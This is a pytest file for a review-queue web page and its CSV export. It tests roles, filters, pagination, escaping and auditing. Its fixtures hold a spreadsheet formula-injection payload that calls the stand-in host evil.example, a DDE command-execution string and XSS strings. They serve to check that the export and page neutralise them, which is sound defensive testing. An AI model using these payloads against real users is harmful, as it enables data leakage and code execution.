"""The queue page and its CSV export: roles, filters, sorting, pagination, escaping, audit."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import insert
from sqlmodel import select

from agent.settings import Settings
from agent.store import AuditEvent, Dataset, Run, get_engine, open_session
from agent.store.models import ReviewItem
from tests.web.conftest import MakeUser

Browser = Callable[[str], TestClient]
PEOPLE = {"sam": "staff", "sue": "supervisor", "sid": "supervisor", "avery": "auditor", "ada": "admin"}
EVIL_TARGET = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
EVIL_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"


def _proposal(sources: list[str], confidence: float | None) -> dict[str, object]:
    return {"field": {"target": "x", "sources": sources, "transform": {"op": "copy"}, "confidence": confidence}}


@pytest.fixture()
def queued(web_settings: Settings, make_user: MakeUser) -> dict[str, str]:
    """Users, two datasets, and a handful of items written straight into the store (no propose run needed)."""
    for name, role in PEOPLE.items():
        make_user(name, role)
    with open_session(web_settings) as session:
        session.add_all([Dataset(id="ds-custody", path="/exports/custody_export.csv", sha256="a", format="csv", size_bytes=1),
                         Dataset(id="ds-stops", path="/exports/stop_search.csv", sha256="b", format="csv", size_bytes=1)])
        session.add_all([Run(id="run-custody", kind="propose", actor="sam", dataset_id="ds-custody", status="review"),
                         Run(id="run-stops", kind="propose", actor="sam", dataset_id="ds-stops", status="review")])
        session.commit()
        rows = [("it-low", "run-custody", "mapping_field", "/person/surname", ["SURNAME"], 0.41, "open", None),
                ("it-merge", "run-custody", "field_merge", "/custody/arrested_at", ["ARREST DATE", "ARREST TIME"], 0.76, "open", None),
                ("it-map", "run-stops", "value_map", "/person/sex", ["SEX"], 0.93, "edited", None),
                ("it-done", "run-stops", "value_map", EVIL_TARGET, ["ETH"], 0.88, "rejected", EVIL_REASON)]
        for item_id, run, kind, target, sources, confidence, state, reason in rows:
            session.add(ReviewItem(id=item_id, run_id=run, kind=kind, target=target, proposal=_proposal(sources, confidence),
                                   state=state, confidence=confidence, proposed_by="sam", reason=reason,
                                   decided_by="sue" if reason else None))
        session.commit()
    return {"custody": "ds-custody", "stops": "ds-stops"}


def item_ids(page_html: str) -> list[str]:
    """Item links in table order."""
    return re.findall(r'<a href="/items/([a-z0-9-]+)">', page_html)


# ---- roles ------------------------------------------------------------------------------------


@pytest.mark.parametrize("person", sorted(PEOPLE))
def test_every_role_sees_the_queue_and_only_exporters_get_the_csv(queued: dict[str, str], client_as: Browser,
                                                                   person: str) -> None:
    browser = client_as(person)
    page = browser.get("/queue")
    assert page.status_code == 200 and "Review queue" in page.text
    exporter = person in ("sue", "sid", "avery", "ada")
    assert ("Export CSV" in page.text) == exporter
    export = browser.get("/queue.csv")
    assert export.status_code == (200 if exporter else 403)
    if not exporter:
        assert "cannot export data" in export.text


def test_signed_out_visitors_are_sent_to_sign_in(queued: dict[str, str], client: TestClient) -> None:
    for path in ("/queue", "/queue.csv?kind=value_map"):
        response = client.get(path, follow_redirects=False)
        assert response.status_code == 303 and response.headers["location"].startswith("/sign-in?next=")


# ---- filters, sort, pagination --------------------------------------------------------------


def test_default_queue_is_undecided_items_lowest_confidence_first(queued: dict[str, str], client_as: Browser) -> None:
    page = client_as("sue").get("/queue")
    assert item_ids(page.text) == ["it-low", "it-merge", "it-map"]
    assert "ARREST DATE" in page.text and "ARREST TIME" in page.text and "custody_export.csv" in page.text
    assert 'class="conf conf-low"' in page.text and 'class="conf conf-high"' in page.text
    assert '<span class="badge badge-edited">edited</span>' in page.text
    assert 'href="/runs/run-custody"' in page.text


@pytest.mark.parametrize(("query", "expected"), [
    ("kind=value_map", ["it-map"]),
    ("kind=value_map&state=all", ["it-done", "it-map"]),
    ("state=rejected", ["it-done"]),
    ("state=open&sort=-confidence", ["it-merge", "it-low"]),
    ("sort=-created", ["it-map", "it-merge", "it-low"]),
    ("dataset=ds-stops&state=all", ["it-done", "it-map"]),
    ("dataset=custody&state=all", ["it-low", "it-merge"]),
    ("run=run-stops&state=all", ["it-done", "it-map"]),
    ("run_id=run-custody&kind=field_merge", ["it-merge"]),
    ("dataset=&kind=&state=&sort=", ["it-low", "it-merge", "it-map"]),
])
def test_filters_and_sorting(queued: dict[str, str], client_as: Browser, query: str, expected: list[str]) -> None:
    page = client_as("avery").get(f"/queue?{query}")
    assert page.status_code == 200
    assert item_ids(page.text) == expected


def test_the_filter_form_keeps_its_choices_and_shows_counts(queued: dict[str, str], client_as: Browser) -> None:
    page = client_as("sue").get("/queue?kind=value_map&state=all&sort=-confidence&dataset=ds-stops")
    assert '<option value="value_map" selected>Value map (2)</option>' in page.text
    assert '<option value="all" selected>Any state (2)</option>' in page.text
    assert '<option value="-confidence" selected>' in page.text
    assert '<option value="ds-stops" selected>stop_search.csv (2)</option>' in page.text
    assert "Clear filter" in page.text


def test_a_filter_value_the_form_never_offers_is_a_clear_400(queued: dict[str, str], client_as: Browser) -> None:
    for query in ("kind=bogus", "state=maybe", "sort=target", "page=0", "per_page=999"):
        response = client_as("sue").get(f"/queue?{query}")
        assert response.status_code == 400 and "not allowed" in response.text, query


def test_an_empty_queue_says_so(web_settings: Settings, make_user: MakeUser, client_as: Browser) -> None:
    make_user("sue", "supervisor")
    page = client_as("sue").get("/queue")
    assert page.status_code == 200 and "Nothing is waiting for review" in page.text
    filtered = client_as("sue").get("/queue?kind=record_merge")
    assert "No items match this filter" in filtered.text


def test_pagination_over_many_items(web_settings: Settings, queued: dict[str, str], client_as: Browser) -> None:
    with get_engine(web_settings).begin() as conn:
        conn.execute(insert(ReviewItem.__table__), [  # type: ignore[attr-defined]
            {"id": f"bulk-{n:03d}", "run_id": "run-stops", "kind": "mapping_field", "target": f"/bulk/{n:03d}",
             "proposal": _proposal([f"COL{n}"], 0.5 + n / 1000), "state": "open", "confidence": 0.5 + n / 1000,
             "proposed_by": "sam", "version": 1, "created_at": f"2026-01-02T00:00:00.{n:06d}Z"} for n in range(120)])
    sue = client_as("sue")
    pages = [sue.get(f"/queue?run=run-stops&page={n}") for n in (1, 2, 3)]
    found = [item_ids(p.text) for p in pages]
    assert [len(ids) for ids in found] == [50, 50, 21]  # 120 bulk items + the edited one
    assert len({i for ids in found for i in ids}) == 121
    assert found[0][:2] == ["bulk-000", "bulk-001"]  # lowest confidence first
    assert "Items 1–50 of 121" in pages[0].text and "Items 101–121 of 121" in pages[2].text
    assert 'rel="next" href="/queue?run_id=run-stops&amp;page=2"' in pages[0].text
    assert 'rel="prev"' in pages[2].text and 'rel="next"' not in pages[2].text
    assert '<span aria-current="page">2</span>' in pages[1].text
    beyond = sue.get("/queue?run=run-stops&page=9")
    assert beyond.status_code == 200 and "There is no page 9" in beyond.text
    smaller = sue.get("/queue?run=run-stops&per_page=200")
    assert len(item_ids(smaller.text)) == 121


# ---- export -----------------------------------------------------------------------------------


def test_csv_export_is_formula_safe_filtered_and_audited(web_settings: Settings, queued: dict[str, str],
                                                          client_as: Browser) -> None:
    response = client_as("avery").get("/queue.csv?state=all&kind=value_map")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert response.headers["content-disposition"].startswith('attachment; filename="review-queue-')
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:4] == ["item_id", "target", "sources", "kind"]
    body = {r[0]: dict(zip(rows[0], r)) for r in rows[1:]}
    assert set(body) == {"it-map", "it-done"}  # the filter applies; every page is exported
    assert body["it-done"]["target"] == "'" + EVIL_TARGET  # shown as text by a spreadsheet, never run
    assert body["it-done"]["reason"] == "'" + EVIL_REASON
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)
    with open_session(web_settings) as session:
        event = session.exec(select(AuditEvent).where(AuditEvent.action == "queue_exported")).one()
    assert event.actor == "avery" and event.outputs == {"rows": 2}
    assert event.inputs["filter"]["kind"] == "value_map" and event.inputs["filter"]["state"] == "all"


def test_queue_text_is_escaped(web_settings: Settings, queued: dict[str, str], client_as: Browser) -> None:
    with open_session(web_settings) as session:
        session.add(ReviewItem(id="it-xss", run_id="run-custody", kind="mapping_field", target="/<script>alert(1)</script>",
                               proposal=_proposal(["<b>SRC</b>"], 0.1), state="open", confidence=0.1,
                               proposed_by="<img src=x onerror=alert(1)>"))
        session.commit()
    page = client_as("sue").get("/queue")
    assert "<script>alert(1)" not in page.text and "<b>SRC</b>" not in page.text and "<img src=x" not in page.text
    assert "/&lt;script&gt;alert(1)&lt;/script&gt;" in page.text and "&lt;b&gt;SRC&lt;/b&gt;" in page.text
